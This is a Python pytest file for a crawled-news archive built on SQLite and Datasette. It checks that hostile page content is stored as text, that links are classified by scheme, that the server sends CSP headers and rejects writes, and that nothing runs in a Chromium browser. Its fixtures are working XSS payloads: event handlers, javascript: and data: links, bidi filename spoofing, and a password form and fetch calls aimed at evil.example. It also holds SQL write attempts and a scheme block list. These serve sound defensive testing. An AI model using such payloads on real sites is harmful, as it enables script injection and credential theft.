"""Hostile pages: whatever a crawled page carries is stored as text, only
http(s) links stay links, and nothing from it runs in a reader's browser on
any page the site serves. The server is hardened: CSP, nosniff, read-only,
time-limited, robots policy."""

from __future__ import annotations

import sqlite3
import urllib.error
import urllib.request
from urllib.parse import quote, urlsplit

import pytest
from helpers.pages import CANONICAL, full_page, write_crawl
from playwright.sync_api import Error as PlaywrightError

from bannedbook.build.extract import extract
from bannedbook.build.pipeline import build
from bannedbook.errors import Rejected

# Each payload, if it ever ran, would call alert() (a dialog), touch
# evil.example (a request) or set window.pwned.
RUN = "alert(1);window.pwned=1;fetch('https://evil.example/x')"
TITLE = f'习近平<img src=x onerror="{RUN}">\u202egpj.exe\u202c <script>{RUN}</script> Xinhuа'
HOSTILE_BODY = f"""<h2>{TITLE.replace("<", "&lt;").replace(">", "&gt;")}</h2>
<div class="entry">
<p>作者：<b onmouseover="{RUN}">&lt;script&gt;{RUN}&lt;/script&gt;</b></p>
<p>正文第一段：&lt;script&gt;{RUN}&lt;/script&gt; 以及 &lt;img src=x onerror={RUN}&gt; 都只是文字。</p>
<script>{RUN}</script>
<p>第二段<img src="https://evil.example/pixel.gif" onerror="{RUN}">带有图片和<svg onload="{RUN}"></svg>矢量图。</p>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<form action="https://evil.example/steal"><input name="password"></form>
<style>body {{ background: url(https://evil.example/bg.png) }}</style>
<p style="width: expression(alert(1)); background: url(javascript:alert(1))">第三段带有 CSS 表达式。</p>
<p>链接：<a href="javascript:{RUN}">点我</a>、<a href=" java&#x09;script:{RUN}">制表符</a>、
<a href="JaVaScRiPt:alert(1)">大小写</a>、<a href="data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;">数据</a>、
<a href="vbscript:msgbox(1)">VB</a>、<a href="mailto:someone@example.org">邮件</a>、
<a href="https://example.org/ok">正常链接</a>、<a href="http://[::1">坏地址</a>。</p>
<p>标签：<a class="st_tag" href="javascript:{RUN}">&lt;svg onload={RUN}&gt;</a>
<a class="st_tag" href="https://www.bannedbook.org/bnews/tag/ok/">正常标签</a></p>
<p class="src-info">来源：<a href="javascript:{RUN}">假来源</a></p>
<p>含有\x00空字节\x01和控制字符&#0;&#x1;的一段。</p>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:{RUN}">
</div>"""
HOSTILE_URL = CANONICAL.replace("2059001", "2059666") + '?"><script>alert(1)</script>'


def hostile_page() -> str:
    return full_page(fragment=HOSTILE_BODY, url=HOSTILE_URL, published="2024-07-08T09:30:00+08:00")


@pytest.fixture(scope="module")
def article():
    return extract(hostile_page())


def test_markup_in_text_is_kept_as_text(article):
    assert "<script>" in article.title and "onerror=" in article.title
    assert any("<script>" in p.text for p in article.paragraphs)
    assert "<script>" in article.author
    # Real script, style and frame elements are furniture, not text.
    assert "evil.example/bg.png" not in article.body and "evil.example/frame" not in article.body


def test_only_http_links_are_web_links(article):
    schemes = {link.text: link.scheme for link in article.links}
    assert schemes["点我"] == schemes["制表符"] == schemes["大小写"] == "javascript"
    assert schemes["数据"] == "data" and schemes["VB"] == "vbscript" and schemes["邮件"] == "mailto"
    assert schemes["正常链接"] == "https"
    tab_link = next(link for link in article.links if link.text == "制表符")
    assert tab_link.url.startswith("javascript:")  # as a browser would read it, whitespace gone
    assert all(link.web == link.url.lower().startswith(("http://", "https://")) for link in article.links)
    # The unparseable URL is kept as written, not a crash.
    assert any(link.text == "坏地址" and link.url == "http://[::1" for link in article.links)


def test_url_columns_outside_links_hold_only_http(article):
    assert article.source == "假来源" and article.source_url is None
    tags = dict(article.tags)
    assert tags[f"<svg onload={RUN}>"] is None
    assert tags["正常标签"].startswith("https://")
    assert article.url.startswith("https://")


def test_control_and_bidi_characters_removed_with_a_warning(article):
    texts = [article.title, article.author, *(p.text for p in article.paragraphs)]
    texts += [link.text for link in article.links]
    for text in texts:
        assert not any(ch in text for ch in "\x00\x01\u202e\u202c"), repr(text)
    assert "gpj.exe" in article.title
    assert any("removed" in warning for warning in article.warnings)


def test_homoglyph_title_is_flagged(article):
    assert any("Cyrillic" in warning for warning in article.warnings)


def test_a_title_of_control_characters_is_rejected():
    with pytest.raises(Rejected) as rejected:
        extract('<h2>&#x202e;&#x1;</h2><div class="entry"><p>正文</p></div>')
    assert rejected.value.reason == "no-article" and "title" in rejected.value.message


def test_bad_dates_and_huge_numbers_do_not_break_the_store():
    page = full_page(published="not a date", url="https://www.bannedbook.org/bnews/x/20240101/99999999999999999999999.html")
    article = extract(page)
    assert article.published == "2024-01-01" and article.site_number is None
    assert any("not a date" in warning for warning in article.warnings)


# The served site.


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    raw = write_crawl(tmp_path_factory.mktemp("hostile") / "raw", {
        "hostile.html": hostile_page().encode("utf-8"),
        "<script>alert(1)</script>.html": b"<p>a file name with markup</p>",
    })
    db = raw.parent / "bannedbook.db"
    build(raw, db, workers=1, progress=False)
    return db


@pytest.fixture(scope="module")
def server(serve, hostile_db):
    return serve(hostile_db)


@pytest.fixture(scope="module")
def hostile_id(hostile_db):
    return sqlite3.connect(hostile_db).execute("select id from articles").fetchone()[0]


def fetch(url: str, data: bytes | None = None) -> tuple[int, dict, str]:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=30) as response:
            return response.status, dict(response.headers), response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read().decode()


def test_links_record_their_scheme(hostile_db):
    rows = sqlite3.connect(hostile_db).execute("select text, scheme from links").fetchall()
    assert ("点我", "javascript") in rows and ("正常链接", "https") in rows


def test_every_html_page_carries_the_policy(server, hostile_id):
    status, headers, html = fetch(f"{server}/bannedbook/articles/{hostile_id}")
    assert status == 200
    policy = headers["content-security-policy"]
    scripts = policy.split("script-src")[1].split(";")[0]
    assert scripts.startswith(" 'self' 'nonce-") and "unsafe" not in scripts
    assert "frame-src 'none'" in policy and "object-src 'none'" in policy and "base-uri 'none'" in policy
    nonce = policy.split("'nonce-")[1].split("'")[0]
    assert html.count("<script") == html.count(f'<script nonce="{nonce}"')
    assert fetch(f"{server}/bannedbook/articles/{hostile_id}")[1]["content-security-policy"] != policy
    _, headers, _ = fetch(f"{server}/bannedbook/articles.json")
    assert headers["x-content-type-options"] == "nosniff"


def test_markup_from_the_page_is_escaped_in_html(server, hostile_id):
    from bs4 import BeautifulSoup

    for path in (f"/bannedbook/articles/{hostile_id}", "/bannedbook/links", "/bannedbook/raw_files",
                 "/bannedbook/tags", f"/bannedbook/search?q={quote('习近平')}",
                 f"/bannedbook/articles?_search={quote('习近平')}"):
        status, _, html = fetch(server + path)
        assert status == 200, path
        assert "&lt;s" in html, path  # the page's markup-looking text is there, escaped
        soup = BeautifulSoup(html, "html.parser")
        assert not soup.find_all(["iframe", "frame", "object", "embed", "base"]), path
        for tag in soup.find_all(True):
            assert not [name for name in tag.attrs if name.startswith("on")], (path, tag.name)
            for name in ("href", "src", "action", "data", "formaction"):
                url = str(tag.get(name, "")).strip().lower()
                assert not url.startswith(("javascript:", "data:", "vbscript:")), (path, url)
                assert not url.startswith(("https://evil.", "http://evil.", "//evil.")), (path, url)
        assert not [script for script in soup.find_all("script") if "pwned" in script.get_text()], path


def test_database_cannot_be_written(server, hostile_db):
    before = hostile_db.read_bytes()
    for sql in ("delete from articles", "drop table links", "insert into tags values ('x','x','x')",
                "pragma writable_schema = on", "attach database '/tmp/evil.db' as evil"):
        status, _, _ = fetch(f"{server}/bannedbook.json?sql={quote(sql)}")
        assert status >= 400, sql
    status, _, _ = fetch(f"{server}/bannedbook/articles", data=b"title=x")
    assert status >= 400
    assert hostile_db.read_bytes() == before


def test_runaway_query_is_stopped_and_the_server_answers(server):
    runaway = "with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n"
    status, _, body = fetch(f"{server}/bannedbook.json?sql={quote(runaway)}")
    assert status == 400 and "too long" in body
    assert fetch(f"{server}/bannedbook/articles.json")[0] == 200


def test_robots_policy(server, hostile_id):
    status, _, robots = fetch(f"{server}/robots.txt")
    assert status == 200
    rules = [line.split(": ", 1) for line in robots.splitlines() if ": " in line]

    def allowed(path: str) -> bool:  # longest match wins, as Google and Bing read it
        import re

        best = ("Allow", "")
        for verdict, pattern in rules:
            if verdict not in ("Allow", "Disallow"):
                continue
            regex = re.escape(pattern).replace(r"\*", ".*").replace(r"\$", "$")
            if re.match(regex, path) and len(pattern) > len(best[1]):
                best = (verdict, pattern)
        return best[0] == "Allow"

    assert allowed("/") and allowed(f"/bannedbook/articles/{hostile_id}") and allowed("/bannedbook/articles")
    for path in ("/bannedbook.json?sql=select+1", "/bannedbook?sql=select+1", "/bannedbook/articles.json",
                 f"/bannedbook/articles/{hostile_id}.json", "/bannedbook/search?q=x", "/-/search?q=x",
                 "/bannedbook/articles?_search=x", "/bannedbook/links", "/bannedbook/articles.csv"):
        assert not allowed(path), path


# In the real browser: a hostile page opened, searched and listed.


def visit(browser, url: str, pages: list[str], follow_links: int = 0) -> dict:
    """Open each page in chromium; return what ran or loaded that should not
    have: dialogs, third-party requests, frames, CSP violations, page errors."""
    seen: dict[str, list] = {"dialogs": [], "third_party": [], "frames": [], "csp": [], "errors": [], "pwned": []}
    page = browser.new_page()
    host = urlsplit(url).netloc
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    page.on("frameattached", lambda frame: seen["frames"].append(frame.url))
    page.on("console", lambda message: message.text.startswith("CSP ") and seen["csp"].append(message.text))

    def route(route):
        if urlsplit(route.request.url).netloc != host:
            seen["third_party"].append(route.request.url)
            return route.abort()
        return route.continue_()

    page.route("**/*", route)
    page.add_init_script("document.addEventListener('securitypolicyviolation', "
                         "e => console.log('CSP ' + e.violatedDirective + ' ' + e.blockedURI + ' ' + location.href))")
    queue, done = list(pages), set()
    while queue:
        path = queue.pop(0)
        if path in done:
            continue
        done.add(path)
        try:
            # /-/search draws its results from the JSON API after loading.
            page.goto(url + path, wait_until="networkidle" if path.startswith("/-/") else "load")
        except PlaywrightError as error:  # a link that downloads (the database file, CSV)
            assert "Download is starting" in str(error), error
            continue
        if page.evaluate("window.pwned"):
            seen["pwned"].append(path)
        if len(done) <= follow_links:
            hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.getAttribute('href'))")
            # Every page the site links to, but one sort order of each table.
            queue += [h for h in hrefs if h.startswith("/") and not h.startswith("//") and "_sort" not in h]
    page.close()
    seen["visited"] = sorted(done)
    return seen


def test_nothing_runs_in_the_browser(server, browser, hostile_id):
    search = quote("习近平")
    seen = visit(browser, server, [
        f"/bannedbook/articles/{hostile_id}",
        f"/bannedbook/articles?_search={search}",
        f"/bannedbook/search?q={search}",
        f"/-/search?q={search}",
        "/bannedbook/links", "/bannedbook/links?_facet=scheme", "/bannedbook/paragraphs", "/bannedbook/raw_files",
        "/bannedbook/tags", f"/bannedbook/articles/{hostile_id}.json", "/bannedbook/links.json?_shape=array",
        f"/bannedbook.json?sql={quote('select title, body from articles')}",
        "/",
    ], follow_links=3)
    assert len(seen["visited"]) > 13  # the links on the first pages were followed too
    assert seen["dialogs"] == [] and seen["pwned"] == []
    assert seen["third_party"] == [] and seen["frames"] == []
    assert seen["csp"] == []  # neither content blocked nor Datasette's own scripts
    assert seen["errors"] == []


def test_hostile_text_is_visible_as_text(server, browser, hostile_id):
    page = browser.new_page()
    page.goto(f"{server}/bannedbook/articles/{hostile_id}")
    assert "<script>" in page.inner_text("body")
    page.goto(f"{server}/-/search?q={quote('习近平')}")
    page.locator("#search-all-results table").first.wait_for(timeout=10_000)
    assert "<img src=x onerror=" in page.inner_text("#search-all-results")
    assert page.locator("#search-all-results img, #search-all-results script").count() == 0
    page.close()
